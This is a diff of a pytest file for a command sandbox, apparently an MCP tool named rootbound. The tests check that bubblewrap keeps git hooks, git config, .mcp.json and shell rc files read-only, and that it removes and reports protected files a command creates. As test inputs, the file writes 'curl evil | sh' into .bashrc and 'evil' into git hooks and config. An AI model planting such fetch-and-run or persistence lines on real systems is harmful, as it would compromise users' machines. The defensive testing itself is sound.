@@ -1,9 +1,11 @@
 """Protected paths (`.git/hooks`, `.git/config`, `.mcp.json`, shell rc files) are read-only for commands under
-bubblewrap: not writable, not removable, not creatable when missing, and not undone by moving a parent away.
+bubblewrap: not writable, not removable, and not undone by moving a parent away; one that is missing is not held
+by anything visible, but what a command creates there is removed once it ends, and reported.
 Under Landlock alone they cannot be, and `rootbound check` says so."""
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 from functools import partial
@@ -15,8 +17,9 @@ import pytest
 from rootbound.config import load_config
 from rootbound.execution.summary import describe_commands
 from rootbound.sandbox import bwrap
-from tests.conftest import Harness
+from tests.conftest import Harness, text_of
 from tests.test_commands_support import CommandServers
+from tests.test_sandbox_cwd import READ_ONLY, server_with
 
 pytestmark = [pytest.mark.anyio, pytest.mark.skipif(not bwrap.probe().ok, reason=f"bubblewrap unusable here: "
                                                     f"{bwrap.probe().detail} (.ci/run installs it)")]
@@ -63,6 +66,17 @@ async def test_git_hooks_and_config_cannot_be_changed(servers: CommandServers, r
     assert got["stdout"] == "1\n"
 
 
+async def test_a_commit_inside_holds_only_what_the_command_wrote(servers: CommandServers, repo: Path) -> None:
+    """`git add -A` inside a command sees no placeholder (.bashrc, .mcp.json, ...), and the host's git status
+    afterwards shows nothing deleted."""
+    h = await servers({"allowed": "*", "sandbox": "bwrap"})
+    got = await h.ok("shell", command="echo a > a.txt && git add -A && git -c user.name=t -c user.email=t@t "
+                                      "commit -qm a && git show --name-only --format= HEAD", root="workspace")
+    assert got["stdout"] == "a.txt\n"
+    status = subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True, check=True)
+    assert status.stdout == ""
+
+
 async def test_moving_a_parent_away_cannot_undo_it(servers: CommandServers, repo: Path) -> None:
     hooks, config = snapshot(repo / ".git" / "hooks"), (repo / ".git" / "config").read_text()
     h = await servers({"allowed": "*", "sandbox": "bwrap"})
@@ -74,48 +88,70 @@ async def test_moving_a_parent_away_cannot_undo_it(servers: CommandServers, repo
     assert snapshot(repo / ".git" / "hooks") == hooks and (repo / ".git" / "config").read_text() == config
 
 
-async def test_missing_protected_paths_cannot_be_created(servers: CommandServers, tmp_path: Path) -> None:
+async def test_missing_protected_paths_created_by_a_command_are_removed(servers: CommandServers,
+                                                                       tmp_path: Path) -> None:
     ws = tmp_path / "workspace"
     ws.mkdir()
     (ws / "src").mkdir()
     h = await servers({"allowed": "*", "sandbox": "bwrap"})
     await shell(h, "echo '{}' > .mcp.json; echo 'curl evil | sh' >> .bashrc; touch .profile .zshrc; "
                    "mkdir -p .git/hooks; git init; echo evil > .git/config")
-    # Nothing created, and the placeholders that held the names are gone again.
+    # Made while the command ran, gone once it ended.
     assert sorted(os.listdir(ws)) == ["src"]
     # Files that are not protected are created as usual.
     await shell(h, "echo x > .env && mkdir -p src/.git && echo y > src/notes")
     assert sorted(os.listdir(ws)) == [".env", "src"]
 
 
-async def test_placeholders_outlast_every_command_that_needs_them(servers: CommandServers, tmp_path: Path) -> None:
+async def test_a_protected_file_a_command_creates_is_removed_and_reported(servers: CommandServers,
+                                                                         tmp_path: Path) -> None:
+    ws, audit = tmp_path / "workspace", tmp_path / "audit.jsonl"
+    ws.mkdir()
+    h = await servers({"allowed": "*", "sandbox": "bwrap", "audit_log": str(audit)})
+    result = await h.call("shell", command="echo 'curl evil | sh' > .bashrc && cat .bashrc", root="workspace")
+    got = result.structured_content
+    assert got is not None and got["stdout"] == "curl evil | sh\n"  # the command itself could use it
+    assert got["removed"] == ["workspace:.bashrc"]
+    assert "the sandbox removed what the command created at protected paths" in text_of(result)
+    assert "workspace:.bashrc" in text_of(result)
+    assert not (ws / ".bashrc").exists()
+    assert json.loads(audit.read_text().splitlines()[-1])["removed"] == ["workspace:.bashrc"]
+    # execute_command reports it the same way.
+    got = await h.ok("execute_command", command="touch .zshrc", root="workspace")
+    assert got["removed"] == ["workspace:.zshrc"] and "workspace:.zshrc" in got["note"]
+    assert os.listdir(ws) == []
+
+
+async def test_nothing_is_created_for_missing_paths_while_commands_run(servers: CommandServers,
+                                                                        tmp_path: Path) -> None:
+    """No placeholder: neither the host nor the command sees anything at a missing protected path."""
     ws = tmp_path / "workspace"
     ws.mkdir()
     h = await servers({"allowed": "*", "sandbox": "bwrap"})
     results: dict[str, str] = {}
 
     async def slow() -> None:
-        results["slow"] = await shell(h, "sleep 0.6; echo x > .mcp.json")
+        got = await h.ok("shell", command="ls -A; sleep 0.6; ls -A", root="workspace")
+        results["slow"] = got["stdout"]
 
     async with anyio.create_task_group() as tg:
         tg.start_soon(slow)
-        await anyio.sleep(0.2)
-        for _ in range(3):  # quick commands start and end while the slow one runs
-            await shell(h, "true")
+        await anyio.sleep(0.3)
+        assert os.listdir(ws) == []  # while it runs
+        await shell(h, "echo x > .mcp.json")  # a quick one creates a protected file: removed when it ends
         tg.start_soon(partial(shell, h, "sleep 0.1"))
-    assert "Permission denied" in results["slow"] or "Read-only" in results["slow"]
+    assert results["slow"] == ""
     assert os.listdir(ws) == []
 
 
-async def test_placeholders_left_by_a_dead_server_are_cleaned_up(servers: CommandServers, tmp_path: Path) -> None:
+async def test_an_empty_file_of_the_users_own_is_frozen_not_removed(servers: CommandServers,
+                                                                     tmp_path: Path) -> None:
     ws = tmp_path / "workspace"
     ws.mkdir()
-    (ws / ".mcp.json").touch()
-    os.setxattr(ws / ".mcp.json", "user.rootbound.placeholder", b"1")  # what a placeholder carries
-    (ws / ".profile").touch()  # an empty file of the user's own: no mark, so it is kept (and protected)
+    (ws / ".profile").touch()
     h = await servers({"allowed": "*", "sandbox": "bwrap"})
-    await shell(h, "echo x > .mcp.json; echo y > .profile")
-    assert sorted(os.listdir(ws)) == [".profile"] and (ws / ".profile").read_text() == ""
+    await shell(h, "echo y > .profile; rm -f .profile")
+    assert os.listdir(ws) == [".profile"] and (ws / ".profile").read_text() == ""
 
 
 async def test_worktree_git_file_is_frozen(servers: CommandServers, tmp_path: Path) -> None:
@@ -127,15 +163,34 @@ async def test_worktree_git_file_is_frozen(servers: CommandServers, tmp_path: Pa
     assert (ws / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"
 
 
-async def test_in_root_symlink_is_followed_to_what_it_protects(servers: CommandServers, repo: Path) -> None:
+async def test_a_symlink_at_a_guarded_place_refuses_commands(servers: CommandServers, repo: Path) -> None:
+    """A link's own place cannot be bound over (a mount follows it), and the command could replace the link:
+    commands are refused, with a message that names the link but not where it points."""
     (repo / "shared-hooks").mkdir()
     os.rename(repo / ".git" / "hooks", repo / "shared-hooks" / "hooks")
     (repo / ".git" / "hooks").symlink_to("../shared-hooks/hooks")
-    before = snapshot(repo / "shared-hooks")
+    before = snapshot(repo)
     h = await servers({"allowed": "*", "sandbox": "bwrap"})
-    await shell(h, "echo evil > shared-hooks/hooks/pre-commit; echo evil > .git/hooks/post-merge")
-    assert snapshot(repo / "shared-hooks") == before
-    assert (repo / "shared-hooks" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    error = await h.err("shell", command="echo evil > shared-hooks/hooks/pre-commit; rm .git/hooks; "
+                                         "mkdir .git/hooks; echo evil > .git/hooks/post-merge", root="workspace")
+    assert "workspace:.git/hooks is a symbolic link" in error and "Nothing was run" in error
+    assert "shared-hooks" not in error
+    assert snapshot(repo) == before
+
+
+async def test_a_git_link_to_a_read_only_root_never_opens_it(servers: CommandServers, tmp_path: Path) -> None:
+    """`.git -> docs` (as `move` can make), where docs is a read-only root nested in the writable one: the guards
+    never bind it read-write, and the server creates nothing inside it."""
+    ws, docs = tmp_path / "workspace", tmp_path / "workspace" / "docs"
+    h = await server_with(servers, [{"name": "workspace", "path": str(ws)},
+                                    {"name": "docs", "path": str(docs), "allowed_tools": READ_ONLY}],
+                          {"allowed": "*", "sandbox": "bwrap"})
+    (docs / "manual.txt").write_text("manual\n")
+    (ws / ".git").symlink_to("docs")
+    error = await h.err("shell", command="echo x > docs/manual.txt; echo x > .git/manual.txt; mkdir -p .git/hooks",
+                        root="workspace")
+    assert "workspace:.git is a symbolic link" in error
+    assert os.listdir(docs) == ["manual.txt"] and (docs / "manual.txt").read_text() == "manual\n"
 
 
 def test_check_says_where_protected_paths_hold(tmp_path: Path) -> None:
@@ -145,6 +200,27 @@ def test_check_says_where_protected_paths_hold(tmp_path: Path) -> None:
     text = "\n".join(lines)
     assert not problems
     assert "protected paths: NOT read-only for commands under Landlock alone" in text
+    helps = "commands.run_as (git's safe.directory ownership check then refuses repositories a command created)"
+    assert helps in text and "safe.bareRepository explicit" in text
     cfg.write_text(cfg.read_text().replace("landlock", "bwrap"))
     text = "\n".join(describe_commands(load_config(str(cfg), env={}))[0])
     assert "OS confinement: bubblewrap" in text and "renaming a parent cannot undo it" in text
+    assert "config, config.worktree, commondir, hooks, info, modules, worktrees (read-only)" in text
+    assert "NOT frozen for commands: repositories below the top of a root" in text and helps in text
+    assert "placeholder" not in text
+
+
+async def test_what_a_timed_out_command_keeps_creating_is_removed(servers: CommandServers, tmp_path: Path) -> None:
+    """A timeout ends bubblewrap first and its processes just after; the sweep runs once they are all gone (it
+    waits for the sandbox's PID 1), so loops that keep recreating protected files leave nothing behind."""
+    ws = tmp_path / "workspace"
+    ws.mkdir()
+    h = await servers({"allowed": "*", "sandbox": "bwrap"})
+    for _ in range(3):
+        result = await h.call("shell", command="(while :; do touch .bashrc; done) & while :; do touch .profile; done",
+                              root="workspace", timeout=1)
+        got = result.structured_content
+        assert got is not None and got["timeout_seconds"] == 1
+        assert os.listdir(ws) == []
+        await anyio.sleep(0.2)
+        assert os.listdir(ws) == []
